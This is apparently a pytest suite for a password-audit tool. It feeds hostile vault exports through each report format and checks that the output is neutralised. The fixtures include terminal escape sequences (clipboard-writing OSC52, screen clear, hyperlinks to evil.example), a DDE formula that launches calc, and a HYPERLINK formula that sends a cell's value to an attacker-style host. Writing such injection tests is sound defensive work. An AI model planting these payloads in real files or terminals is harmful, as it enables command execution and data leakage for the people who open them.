"""Injection into what the person reads (issue 15, items 1-4), through every report format.

One hostile Bitwarden export and one hostile catalogue: terminal control sequences in
titles, usernames, URLs and breach titles, spreadsheet formulas in list cells, URLs that
GitHub-flavoured Markdown would autolink, and passwords in URL userinfo. Each format is
rendered by the real command in process and read back.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from pwcheck.report.csv import cell
from tests.support import fixture_data as fd
from tests.support.breach_fixture import breach, catalogue_bytes
from tests.support.cli import Result, invoke
from tests.support.exporters import json_text
from tests.support.rangeserver import RangeServer

FORMATS = ["terminal", "json", "csv", "markdown", "html"]
# Every C0 control but newline, DEL, every C1 control: none may reach the output raw.
FORBIDDEN = {chr(c) for c in (*range(0x20), 0x7F, *range(0x80, 0xA0))} - {"\n"}
OSC52 = "\x1b]52;c;aGk=\x07"  # writes "hi" to the clipboard
CLEAR = "\x1b[2J"
OSC8 = "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\"
CSI8 = "\x9b31m"  # the 8-bit CSI
HYPERLINK = '=HYPERLINK("https://evil.example/?"&G2,"renew")'
AUTOLINKS = "https://evil.example/x www.evil.example mailto:x@evil.example //evil.example xmpp:x@evil.example/r"
SECRETS = ("hunter2", "SECRET2", "SECRET4")  # in URLs; SECRET3 stands in a title as `alice:SECRET3@example.com`


def login(name: str, uris: list[str], username: str, password: str) -> dict[str, object]:
    return {"id": name[:8], "type": 1, "name": name, "revisionDate": "2025-01-01T00:00:00.000Z",
            "login": {"uris": [{"match": None, "uri": uri} for uri in uris], "username": username,
                      "password": password, "totp": None, "passwordRevisionDate": None}}


def hostile_export(tmp_path: Path) -> Path:
    items = [
        login(f"Bank {OSC52} {CLEAR} {CSI8} \x7f end",
              ["https://alice:hunter2@bank.example.com/login", HYPERLINK, "https://u:SECRET2@other.example/"],
              f"{OSC8}alice@example.com", fd.ALPHA),
        # No URL: the title is the site label in every human format.
        login(f"{AUTOLINKS} {CLEAR} alice:SECRET3@example.com via https://bob:SECRET4@evil.example/",
              [], "https://evil.example/u www.evil.example", fd.COMMA),
        login("Shop", ["shop.example.net/"], "@everyone", fd.QUOTE),
        login("Forum", ["https://forum.example.org/"], "@SUM(1+1)", fd.UMLAUT),
    ]
    path = tmp_path / "hostile.json"
    path.write_text(json_text({"encrypted": False, "folders": [], "items": items}), encoding="utf-8")
    return path


HOSTILE_CATALOGUE = [
    breach("=cmd|' /C calc'!A0", "example.com", "2030-01-01", Title=f"Evil {OSC52}{CSI8} https://evil.example/b www.evil.example"),
    breach("@Forum", "example.org", "2030-01-01", Title="Forum alice@evil.example"),
]


def audit(server: RangeServer, export: Path, fmt: str, *extra: str, api: str | None = None) -> Result:
    server.breaches = catalogue_bytes(HOSTILE_CATALOGUE)
    return invoke("audit", str(export), "--format", fmt, "--all", "--api-url", api or server.url,
                  "--breaches-url", (api or server.url) + "/api/v3/breaches", *extra)


def raw_controls(data: bytes, fmt: str) -> set[str]:
    text = data.decode("utf-8")
    if fmt == "csv":
        text = text.replace("\r\n", "\n")  # its own line ends
    return set(text) & FORBIDDEN


@pytest.mark.parametrize("redact", [False, True], ids=["plain", "redact"])
@pytest.mark.parametrize("fmt", FORMATS)
def test_no_control_character_and_no_userinfo_reaches_the_reader(
    range_server: RangeServer, tmp_path: Path, fmt: str, redact: bool
) -> None:
    proc = audit(range_server, hostile_export(tmp_path), fmt, *(["--redact"] if redact else []))
    assert proc.returncode == 1, proc.stderr
    assert raw_controls(proc.stdout, fmt) == set() and raw_controls(proc.stderr, fmt) == set()
    for secret in SECRETS + (("SECRET3",) if redact else ()):  # a title is text: only --redact masks addresses in it
        assert secret.encode() not in proc.stdout + proc.stderr, secret
    if fmt == "terminal":
        text = proc.stdout.decode()
        assert "\\x1b]52;c;aGk=\\x07" in text and "\\x1b[2J" in text and "\\x9b31m" in text  # visible, not dropped
    if fmt == "json":
        doc = json.loads(proc.stdout)
        bank = doc["entries"][0]
        assert OSC52 in bank["title"] and CSI8 in bank["title"]  # JSON keeps the exact text, escaped
        assert bank["url"] == "https://bank.example.com/login"
        assert bank["other_urls"] == [HYPERLINK, "https://other.example/"]


def test_json_escapes_del_and_c1_but_parses_to_the_same_text(range_server: RangeServer, tmp_path: Path) -> None:
    proc = audit(range_server, hostile_export(tmp_path), "json")
    assert b"\\u009b31m" in proc.stdout and b"\\u007f" in proc.stdout and b"\\u001b]52" in proc.stdout


def test_csv_neutralises_every_flattened_cell(range_server: RangeServer, tmp_path: Path) -> None:
    proc = audit(range_server, hostile_export(tmp_path), "csv")
    rows = list(csv.DictReader(io.StringIO(proc.stdout.decode(), newline="")))
    bank, _, _, forum = rows
    assert bank["other_urls"] == "'" + HYPERLINK + "; https://other.example/"  # a list, one cell
    assert bank["breaches"] == "'=cmd|' /C calc'!A0"  # from the catalogue
    assert forum["username"] == "'@SUM(1+1)" and forum["breaches"] == "'@Forum"
    for row in rows:
        for key, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (key, value)


@pytest.mark.parametrize("value,expected", [
    (["=1+1", "b"], "'=1+1; b"),
    (("@x",), "'@x"),
    (["a", "=b"], "a; =b"),  # a cell is a formula only by its first character
    ("-2", "'-2"),
    (-2, "'-2"),
    (3, "3"),
    (None, ""),
    (True, "true"),
    (["\t=1"], "\\x09=1"),
])
def test_csv_cell_whatever_the_type(value: object, expected: str) -> None:
    assert cell(value) == expected


def _links_in_gfm(markdown: str) -> list[str]:
    """Links in the HTML that GitHub's own parser (cmark-gfm, with its autolink extension) makes of `markdown`."""
    import cmarkgfm

    html = cmarkgfm.github_flavored_markdown_to_html(markdown)
    return [part.split(">", 1)[0] for part in html.split("<a ")[1:]]


def _links_in_markdown_it(markdown: str) -> list[str]:
    """Links markdown-it-py makes with linkify-it (e-mail, scheme and `//` links; bare domains are not GFM's)."""
    from markdown_it import MarkdownIt

    parser = MarkdownIt("gfm-like", {"linkify": True})
    parser.linkify.set({"fuzzy_link": False})
    html = parser.render(markdown)
    return [part.split(">", 1)[0] for part in html.split("<a ")[1:]]


def test_the_link_checkers_find_links_when_there_are_some() -> None:
    bare = "alice@example.com https://evil.example/x www.evil.example //evil.example"
    assert len(_links_in_gfm(bare)) == 3 and len(_links_in_markdown_it(bare)) == 3


@pytest.mark.parametrize("redact", [False, True], ids=["plain", "redact"])
def test_markdown_text_never_becomes_a_link(range_server: RangeServer, tmp_path: Path, redact: bool) -> None:
    proc = audit(range_server, hostile_export(tmp_path), "markdown", *(["--redact"] if redact else []))
    text = proc.stdout.decode()
    assert _links_in_gfm(text) == [] and _links_in_markdown_it(text) == []
    table = [line for line in text.splitlines() if line.startswith("| ")]
    assert table and all(line.count(" | ") == 6 for line in table)
    assert "evil.example/x" in text.replace("\u2060", "")  # still there to read


def test_html_has_no_link_and_no_markup_from_the_data(range_server: RangeServer, tmp_path: Path) -> None:
    text = audit(range_server, hostile_export(tmp_path), "html").stdout.decode()
    assert "<a " not in text and "href" not in text and "<a>" not in text
    assert "default-src &#x27;none&#x27;" in text or "default-src 'none'" in text


def test_redact_masks_usernames_and_addresses_inside_titles_and_urls(range_server: RangeServer, tmp_path: Path) -> None:
    export = tmp_path / "c.csv"
    export.write_text(
        "name,url,username,password\n"
        f"Login of carol.jones@example.com,https://example.com/u/carol.jones?x=1,carol.jones,{fd.ALPHA}\n"
        f"bob:pw@example.com,https://bob:pw@example.net/?user=bob%40example.net,bob@example.net,{fd.UMLAUT}\n",
        encoding="utf-8",
    )
    server = range_server
    server.breaches = catalogue_bytes()
    proc = invoke("audit", str(export), "--format", "json", "--redact", "--api-url", server.url, "--breaches-url", server.breaches_url)
    carol, bob = json.loads(proc.stdout)["entries"]
    assert carol["title"] == "Login of c***@example.com" and carol["url"] == "https://example.com/u/c***?x=1"
    assert bob["title"] == "b***@example.com" and bob["url"] == "https://example.net/?user=b***@example.net"
    assert bob["username"] == "b***@example.net"
    for fmt in ("terminal", "markdown", "html", "csv"):
        text = invoke("audit", str(export), "--format", fmt, "--redact", "--all", "--api-url", server.url,
                      "--breaches-url", server.breaches_url).stdout.decode().replace("\\", "").replace("\u2060", "")
        assert "carol.jones" not in text and "bob@" not in text and "bob:pw" not in text, fmt


@pytest.mark.parametrize("fmt", FORMATS)
def test_api_and_catalogue_userinfo_appear_nowhere(range_server: RangeServer, fixtures: Path, fmt: str) -> None:
    """`--api-url http://team:SECRET@mirror/`: not in checked_against, breach_data.source, notes or error lines."""
    api = range_server.url.replace("http://", "http://team:APISECRET@")
    range_server.breach_faults = ["503", "503"]  # the catalogue fails: its problem line names the URL
    range_server.fault(fd.sha1_hex(fd.ALPHA)[:5], *["503"] * 4)  # and a range fails: not checked
    proc = audit(range_server, fixtures / "chrome.csv", fmt, api=api)
    assert proc.returncode == 3, proc.stderr
    assert b"APISECRET" not in proc.stdout + proc.stderr
    assert b"127.0.0.1" in proc.stderr  # the URL is named, without its userinfo
    if fmt == "json":
        doc = json.loads(proc.stdout)
        assert doc["checked_against"] == range_server.url
        assert doc["breach_data"]["source"] == range_server.breaches_url


def test_the_terminal_shows_emoji_codes_as_typed(range_server: RangeServer, tmp_path: Path) -> None:
    """rich's markup turned `:smile:` into an emoji in a username, a title or a file name: the report shows the text."""
    items = [login(":smile: Shop", [], ":warning:@example.com", fd.ALPHA)]
    export = tmp_path / ":thumbs_up:.json"
    export.write_text(json_text({"encrypted": False, "folders": [], "items": items}), encoding="utf-8")
    proc = audit(range_server, export, "terminal")
    text = proc.stdout.decode() + proc.stderr.decode()
    assert ":smile: Shop" in text and ":warning:@example.com" in text
    assert not {"\N{SMILING FACE WITH OPEN MOUTH AND SMILING EYES}", "\N{WARNING SIGN}", "\N{THUMBS UP SIGN}"} & set(text)
